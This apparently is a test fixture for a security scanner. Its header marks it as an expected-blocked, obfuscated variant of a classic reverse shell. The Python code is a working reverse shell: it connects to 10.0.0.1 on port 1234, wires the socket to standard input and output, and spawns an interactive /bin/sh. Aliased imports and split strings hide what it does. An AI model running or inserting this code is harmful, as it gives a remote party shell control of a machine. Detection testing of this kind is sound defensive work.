# expect: BLOCKED category: known_threat variant-of: risky/known_threat/classic_reverse_shell_oneliner.py technique: alias+concat
import socket as _m0, subprocess as _m1, os as _m2
s = _m0.socket(_m0.AF_INET, _m0.SOCK_STREAM)
s.connect(('10' + '.0' + '.0' + '.1', 1234))
_m2.dup2(s.fileno(), 0)
_m2.dup2(s.fileno(), 1)
_m2.dup2(s.fileno(), 2)
p = _m1.call(['/b' + 'in' + '/s' + 'h', '-' + 'i'])
